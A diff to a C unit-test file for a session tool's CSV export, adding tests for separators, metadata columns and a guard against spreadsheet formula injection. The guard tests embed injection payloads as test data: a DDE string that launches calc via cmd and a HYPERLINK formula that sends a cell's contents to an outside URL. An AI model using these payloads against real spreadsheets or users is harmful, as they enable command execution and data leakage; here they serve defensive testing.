@@ -46,20 +46,29 @@ static int teardown(void **state)
 	return 0;
 }
 
-/* Returns the export of S in FORMAT with separator SEP as a malloc'd string. */
-static char *export_text(const struct session *s, const struct content *c,
-			 enum export_format format, char sep)
+/* Returns the export of S with the options OPT as a malloc'd string. */
+static char *export_with(const struct session *s, const struct content *c,
+			 const struct export_options *opt)
 {
-	struct export_options opt = { format, sep };
 	char *buf = NULL;
 	size_t len = 0;
 	FILE *out = open_memstream(&buf, &len);
 
 	assert_non_null(out);
-	assert_true(session_export(out, s, c, &opt));
+	assert_true(session_export(out, s, c, opt));
 	assert_int_equal(fclose(out), 0);
 	assert_int_equal(strlen(buf), len); /* no NUL inside */
 	return buf;
+}
+
+/* Returns the export of S in FORMAT with separator SEP (0: the default) as a malloc'd string;
+ * CSV for a spreadsheet. */
+static char *export_text(const struct session *s, const struct content *c,
+			 enum export_format format, char sep)
+{
+	struct export_options opt = { .format = format, .csv_separator = sep };
+
+	return export_with(s, c, &opt);
 }
 
 /* Returns the contents of PATH as a malloc'd string, or NULL when it cannot be read. */
@@ -95,12 +104,13 @@ static void report_difference(const char *name, const char *expected, const char
 		name, line, expected + at, actual + at);
 }
 
-/* Compares the export in FORMAT with the golden file NAME, or rewrites it on request. */
+/* Compares the export in FORMAT, with the default options, with the golden file NAME, or
+ * rewrites it on request. */
 static void check_golden(void **state, enum export_format format, const char *name)
 {
 	struct fixture *f = *state;
 	char path[256];
-	char *actual = export_text(f->s, f->c, format, ','), *expected;
+	char *actual = export_text(f->s, f->c, format, 0), *expected;
 	const char *update = getenv("MEETLAT_UPDATE_GOLDEN");
 
 	snprintf(path, sizeof(path), GOLDEN_DIR "%s", name);
@@ -128,7 +138,7 @@ static void test_golden_md(void **state)
 	check_golden(state, EXPORT_MD, "session.md");
 }
 
-/* The CSV export is the golden one. */
+/* The CSV export is the golden one: for a spreadsheet, ';' for the Dutch almanac. */
 static void test_golden_csv(void **state)
 {
 	check_golden(state, EXPORT_CSV, "session.csv");
@@ -249,7 +259,16 @@ struct csv_probe {
 	char *found; /* the wanted field, malloc'd */
 };
 
-enum { CSV_FIELDS = 18 };
+/* The columns of the CSV, as the tests use them. */
+enum {
+	CSV_SESSION_TITLE = 0, CSV_SESSION_DATE = 3, CSV_KIND = 4, CSV_MEDIAN = 10,
+	CSV_NOTE = 17, CSV_ACTION = 18, CSV_OWNER = 19, CSV_FIELDS = 22
+};
+
+/* The records of the fixed session's CSV: the header, 11 rows, 4 actions. */
+enum { FIXTURE_RECORDS = 1 + 11 + 4 };
+
+static const char bom[] = "\xEF\xBB\xBF";
 
 /* Ends a field of LEN bytes at FIELD: keeps it when it is the one P wants. */
 static void csv_field_end(struct csv_probe *p, size_t field, const char *text, size_t len)
@@ -302,51 +321,253 @@ static void csv_read(const char *csv, char sep, struct csv_probe *p)
 	free(field);
 }
 
-/* Returns field FIELD of record RECORD of CSV, read with separator SEP, after checking that
- * every record has all columns. */
-static char *csv_get(const char *csv, char sep, size_t record, size_t field)
+/* Returns field FIELD of record RECORD of CSV (after its byte order mark, if any), read with
+ * separator SEP, after checking that it has RECORDS records and every one all columns. */
+static char *csv_get(const char *csv, char sep, size_t records, size_t record, size_t field)
 {
 	struct csv_probe p = { .want_record = record, .want_field = field };
 
+	if (strncmp(csv, bom, 3) == 0)
+		csv += 3;
 	csv_read(csv, sep, &p);
-	assert_int_equal(p.records, 1 + 11 + 4);
+	assert_int_equal(p.records, records);
 	assert_int_equal(p.short_records, 0);
 	assert_non_null(p.found);
 	return p.found;
 }
 
-/* CSV with either separator: every line has every column, texts read back exactly, and
+/* Asserts that field FIELD of record RECORD of the fixed session's CSV is WANT. */
+static void assert_fixture_field(const char *csv, char sep, size_t record, size_t field,
+				 const char *want)
+{
+	char *got = csv_get(csv, sep, FIXTURE_RECORDS, record, field);
+
+	assert_string_equal(got, want);
+	free(got);
+}
+
+/* Returns a malloc'd copy of TEXT after a ' when GUARD. */
+static char *guarded(const char *text, bool guard)
+{
+	char *out = malloc(strlen(text) + 2);
+
+	assert_non_null(out);
+	snprintf(out, strlen(text) + 2, "%s%s", guard ? "'" : "", text);
+	return out;
+}
+
+/* CSV with either separator, for a spreadsheet and raw: every line has every column and the
+ * session's title, organisation, group and date; texts read back exactly, after a ' when they
+ * would be a formula (and only for a spreadsheet); a byte order mark only for a spreadsheet;
  * with ';' the median has a decimal comma. */
 static void test_csv_facts(void **state)
 {
+	static const char *const meta[] = { "Workshop sociale media", "Gemeente Voorbeeld",
+					    "Team communicatie", "2026-11-26" };
 	struct fixture *f = *state;
 	const char seps[] = { ',', ';' };
 
-	for (size_t i = 0; i < 2; i++) {
-		char *csv = export_text(f->s, f->c, EXPORT_CSV, seps[i]);
-		char sep = seps[i], header[32];
-		/* record 0 is the header, 1-11 the rows, 12-15 the actions */
-		char *note = csv_get(csv, sep, 1, 13), *owner = csv_get(csv, sep, 13, 15);
-		char *median = csv_get(csv, sep, 2, 6), *action = csv_get(csv, sep, 14, 14);
-		char *comma = csv_get(csv, sep, 2, 13), *semicolon = csv_get(csv, sep, 7, 13);
+	for (size_t i = 0; i < 4; i++) {
+		struct export_options opt = { EXPORT_CSV, seps[i % 2], i >= 2 };
+		char *csv = export_with(f->s, f->c, &opt);
+		char sep = seps[i % 2], header[64];
+		char *formula = guarded("=Terugkoppeling aan het MT\nen aan de raad", !opt.csv_raw);
+		char *at = guarded(fixture_actions[3].text, !opt.csv_raw);
+		char *dash = guarded(fixture_rows[1].note, !opt.csv_raw);
+		const char *body = opt.csv_raw ? csv : csv + 3;
 
-		snprintf(header, sizeof(header), "kind%cgroup%crow_id%c", sep, sep, sep);
-		assert_memory_equal(csv, header, strlen(header));
-		assert_string_equal(note, FIXTURE_NOTE);
-		assert_string_equal(owner, "Jansen, \"Ops\" & Co");
-		assert_string_equal(action, "=Terugkoppeling aan het MT\nen aan de raad");
-		assert_string_equal(median, sep == ';' ? "2,5" : "2.5");
-		assert_string_equal(comma, fixture_rows[1].note);     /* holds ',' only */
-		assert_string_equal(semicolon, fixture_rows[5].note); /* holds ';' only */
+		/* record 0 is the header, 1-11 the rows, 12-15 the actions */
+		snprintf(header, sizeof(header), "session_title%csession_organisation%c", sep, sep);
+		assert_memory_equal(body, header, strlen(header));
+		assert_int_equal(strncmp(csv, bom, 3) == 0, !opt.csv_raw);
+		assert_null(strstr(csv + 1, bom)); /* never a second one */
+		assert_fixture_field(csv, sep, 1, CSV_NOTE, FIXTURE_NOTE);
+		assert_fixture_field(csv, sep, 13, CSV_OWNER, "Jansen, \"Ops\" & Co");
+		assert_fixture_field(csv, sep, 14, CSV_ACTION, formula);
+		assert_fixture_field(csv, sep, 15, CSV_ACTION, at);
+		assert_fixture_field(csv, sep, 2, CSV_NOTE, dash); /* holds ',' */
+		assert_fixture_field(csv, sep, 2, CSV_MEDIAN, sep == ';' ? "2,5" : "2.5");
+		assert_fixture_field(csv, sep, 2, CSV_NOTE + 1, ""); /* action: empty for a row */
+		assert_fixture_field(csv, sep, 7, CSV_NOTE, fixture_rows[5].note); /* holds ';' */
+		for (size_t r = 1; r < FIXTURE_RECORDS; r++)
+			for (size_t m = 0; m < 4; m++)
+				assert_fixture_field(csv, sep, r, CSV_SESSION_TITLE + m, meta[m]);
+		assert_fixture_field(csv, sep, 11, CSV_KIND, "row");
+		assert_fixture_field(csv, sep, 12, CSV_KIND, "action");
 		assert_true(csv[strlen(csv) - 2] == '\r' && csv[strlen(csv) - 1] == '\n');
-		assert_memory_not_equal(csv, "\xEF\xBB\xBF", 3); /* no byte order mark */
-		free(note);
-		free(owner);
-		free(median);
-		free(action);
-		free(comma);
-		free(semicolon);
+		free(formula);
+		free(at);
+		free(dash);
 		free(csv);
+	}
+}
+
+/* The guard's rule on its own: = + - @ tab CR at the start, or = + - @ after blanks, with any
+ * ' in front skipped; nothing else. */
+static void test_needs_guard(void **state)
+{
+	static const char *const formulas[] = {
+		"=1+1", "+31", "-5", "-5 ideeën", "@SUM(A1)", "\t", "\tx", "\r", "\rx", " =1",
+		"  +1", "\t-1", "\r\n@x", "\n=1", "'=1", "''-1", "' @x", "'\tx",
+	};
+	static const char *const texts[] = {
+		"", "a", "a=b", "1-2", "5", "'", "'a", "''", " a", "\n", " ", "–5", "＝1",
+		"x\n=1",
+	};
+
+	(void)state;
+	for (size_t i = 0; i < sizeof(formulas) / sizeof(formulas[0]); i++)
+		if (!export_csv_needs_guard(formulas[i]))
+			fail_msg("not guarded: \"%s\"", formulas[i]);
+	for (size_t i = 0; i < sizeof(texts) / sizeof(texts[0]); i++)
+		if (export_csv_needs_guard(texts[i]))
+			fail_msg("guarded: \"%s\"", texts[i]);
+}
+
+/* A text as typed, and what a CSV for a spreadsheet and a raw CSV must give back for it. */
+struct guard_case {
+	const char *typed, *spreadsheet, *raw; /* raw NULL: the text as typed */
+};
+
+static const struct guard_case guard_cases[] = {
+	{ "=HYPERLINK(\"http://example.org/?\"&A1,\"click\")",
+	  "'=HYPERLINK(\"http://example.org/?\"&A1,\"click\")", NULL },
+	{ "+31 6 1234 5678", "'+31 6 1234 5678", NULL },
+	{ "-5 ideeën", "'-5 ideeën", NULL },
+	{ "-5", "'-5", NULL },
+	{ "@SUM(A1:A9)", "'@SUM(A1:A9)", NULL },
+	{ "=1;2,3", "'=1;2,3", NULL }, /* quoted with either separator, the ' inside */
+	{ " =1+1", "' =1+1", NULL },
+	{ "  \n=1+1", "'  \n=1+1", NULL },
+	{ "\t=1+1", "' =1+1", " =1+1" },   /* a tab is a space in every format */
+	{ "\tmet tab", " met tab", " met tab" },
+	{ "\r=1+1", "?=1+1", "?=1+1" },    /* a CR is replaced: no formula left */
+	{ "'=1+1", "''=1+1", NULL },       /* so that one ' can be taken off again */
+	{ "'citaat'", "'citaat'", NULL },
+	{ "a=b-c", "a=b-c", NULL },
+	{ "1-2", "1-2", NULL },
+	{ "–5", "–5", NULL },
+};
+
+enum { GUARD_CASES = sizeof(guard_cases) / sizeof(guard_cases[0]) };
+
+/* Returns a session on C titled and with an owner like a formula, with one action per guard
+ * case. */
+static struct session *guard_session(const struct content *c)
+{
+	struct session *s = session_new(c, "=cmd|' /C calc'!A0");
+	const char *why;
+
+	assert_non_null(s);
+	for (size_t i = 0; i < GUARD_CASES; i++) {
+		struct action_fields a = { guard_cases[i].typed, NULL, "@eigenaar", NULL };
+
+		assert_true(session_action_add(s, c, &a, &why) == (long)i);
+	}
+	return s;
+}
+
+/* Each case reads back guarded in a CSV for a spreadsheet and as typed in a raw CSV, with
+ * either separator; the title and owner, single-line texts, too. */
+static void test_csv_guard(void **state)
+{
+	struct fixture *f = *state;
+	struct session *s = guard_session(f->c);
+	size_t rows = f->c->n_dimensions, records = 1 + rows + GUARD_CASES;
+
+	for (int i = 0; i < 4; i++) {
+		struct export_options opt = { EXPORT_CSV, i % 2 ? ';' : ',', i >= 2 };
+		char *csv = export_with(s, f->c, &opt);
+		char sep = opt.csv_separator;
+
+		for (size_t k = 0; k < GUARD_CASES; k++) {
+			const struct guard_case *g = &guard_cases[k];
+			const char *raw = g->raw ? g->raw : g->typed;
+			const char *want = opt.csv_raw ? raw : g->spreadsheet;
+			char *got = csv_get(csv, sep, records, 1 + rows + k, CSV_ACTION);
+
+			if (strcmp(got, want) != 0)
+				fail_msg("case %zu, %s: \"%s\", expected \"%s\"", k,
+					 opt.csv_raw ? "raw" : "spreadsheet", got, want);
+			free(got);
+		}
+		for (size_t r = 1; r < records; r++) {
+			char *title = csv_get(csv, sep, records, r, CSV_SESSION_TITLE);
+			char *owner = csv_get(csv, sep, records, r, CSV_OWNER);
+			bool action = r > rows;
+
+			assert_string_equal(title, opt.csv_raw ? s->meta[META_TITLE] :
+						   "'=cmd|' /C calc'!A0");
+			assert_string_equal(owner, !action ? "" : opt.csv_raw ? "@eigenaar" :
+						   "'@eigenaar");
+			free(title);
+			free(owner);
+		}
+		free(csv);
+	}
+	session_free(s);
+}
+
+/* Returns content with two phases in LANGUAGE (NULL: none given). */
+static struct content *content_in(const char *language)
+{
+	char yaml[512];
+	struct diag d;
+	struct content *c;
+	int n = snprintf(yaml, sizeof(yaml),
+			 "meetlat_content: 1\nid: t\ntitle: T\n%s%s%s"
+			 "phases:\n"
+			 "  - {number: 1, name: a, summary: s, intro: i}\n"
+			 "  - {number: 2, name: b, summary: s, intro: i}\n"
+			 "model:\n"
+			 "  - group: g\n"
+			 "    dimensions:\n"
+			 "      - {id: r, name: R, behaviour: {1: x, 2: y}}\n",
+			 language ? "language: \"" : "", language ? language : "",
+			 language ? "\"\n" : "");
+
+	assert_true(n > 0 && (size_t)n < sizeof(yaml));
+	c = content_load_buffer("t.yaml", yaml, (size_t)n, &d);
+	assert_non_null(c);
+	return c;
+}
+
+/* Without --separator the CSV has ';' when the content is Dutch and ',' otherwise, and the
+ * median's decimal sign follows; a separator asked for wins either way. */
+static void test_default_separator(void **state)
+{
+	static const struct {
+		const char *language;
+		char asked, expected;
+	} cases[] = {
+		{ "nl", 0, ';' },   { "nl-BE", 0, ';' }, { "NL", 0, ';' }, { "en", 0, ',' },
+		{ NULL, 0, ',' },   { "nld", 0, ',' },   { "nl", ',', ',' }, { "en", ';', ';' },
+	};
+	static const char dutch[] = "\xEF\xBB\xBFsession_title;session_organisation;";
+	struct fixture *f = *state;
+	char *builtin = export_text(f->s, f->c, EXPORT_CSV, 0);
+
+	assert_memory_equal(builtin, dutch, sizeof(dutch) - 1);
+	assert_fixture_field(builtin, ';', 2, CSV_MEDIAN, "2,5");
+	free(builtin);
+	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
+		struct content *c = content_in(cases[i].language);
+		struct session *s = session_new(c, "T");
+		const char *why;
+		char *csv, header[32];
+
+		assert_non_null(s);
+		assert_true(session_vote_add(s, c, 0, 1, &why));
+		assert_true(session_vote_add(s, c, 0, 2, &why));
+		csv = export_text(s, c, EXPORT_CSV, cases[i].asked);
+		snprintf(header, sizeof(header), "%ssession_title%c", bom, cases[i].expected);
+		if (strncmp(csv, header, strlen(header)) != 0)
+			fail_msg("language %s, separator '%c': %.40s", cases[i].language,
+				 cases[i].asked, csv);
+		assert_non_null(strstr(csv, cases[i].expected == ';' ? ";1,5;" : ",1.5,"));
+		free(csv);
+		session_free(s);
+		content_free(c);
 	}
 }
 
@@ -379,9 +600,11 @@ static void test_empty_session(void **state)
 {
 	struct fixture *f = *state;
 	struct session *s = session_new(f->c, "Leeg");
-	char *md, *html, *csv;
+	char *md, *html, *csv, line[128];
 
 	assert_non_null(s);
+	snprintf(line, sizeof(line), "\r\nLeeg,,,%s,row,interactie,content,content,0,"
+		 "1:0 2:0 3:0 4:0,,0,no,,,,,,,,,\r\n", s->meta[META_DATE]); /* dated today */
 	md = export_text(s, f->c, EXPORT_MD, ',');
 	html = export_text(s, f->c, EXPORT_HTML, ',');
 	csv = export_text(s, f->c, EXPORT_CSV, ',');
@@ -390,8 +613,7 @@ static void test_empty_session(void **state)
 	assert_non_null(strstr(md, "| interactie | content | 0 | — | — | — | — | — |\n"));
 	assert_int_equal(check_md_tables(md), (2 + 10) + (2 + 23 + 1));
 	assert_non_null(strstr(html, "not scored</text>"));
-	assert_non_null(strstr(csv, "\r\nrow,interactie,content,content,0,1:0 2:0 3:0 4:0,,0,no,"
-				    ",,,,,,,,\r\n"));
+	assert_non_null(strstr(csv, line));
 	free(md);
 	free(html);
 	free(csv);
@@ -458,7 +680,7 @@ static void test_write_failure(void **state)
 	struct fixture *f = *state;
 
 	for (int format = 0; format < EXPORT_FORMAT_COUNT; format++) {
-		struct export_options opt = { (enum export_format)format, ',' };
+		struct export_options opt = { (enum export_format)format, ',', false };
 		FILE *full = fopen("/dev/full", "w"), *readonly = fopen("/dev/null", "r");
 
 		assert_non_null(full);
@@ -474,7 +696,7 @@ static void test_write_failure(void **state)
 static void test_unknown_format(void **state)
 {
 	struct fixture *f = *state;
-	struct export_options opt = { EXPORT_FORMAT_COUNT, ',' };
+	struct export_options opt = { EXPORT_FORMAT_COUNT, ',', false };
 	char *buf = NULL;
 	size_t len = 0;
 	FILE *out = open_memstream(&buf, &len);
@@ -496,6 +718,9 @@ int main(void)
 		cmocka_unit_test(test_md_facts),
 		cmocka_unit_test(test_html_facts),
 		cmocka_unit_test(test_csv_facts),
+		cmocka_unit_test(test_needs_guard),
+		cmocka_unit_test(test_csv_guard),
+		cmocka_unit_test(test_default_separator),
 		cmocka_unit_test(test_control_characters),
 		cmocka_unit_test(test_empty_session),
 		cmocka_unit_test(test_other_content),
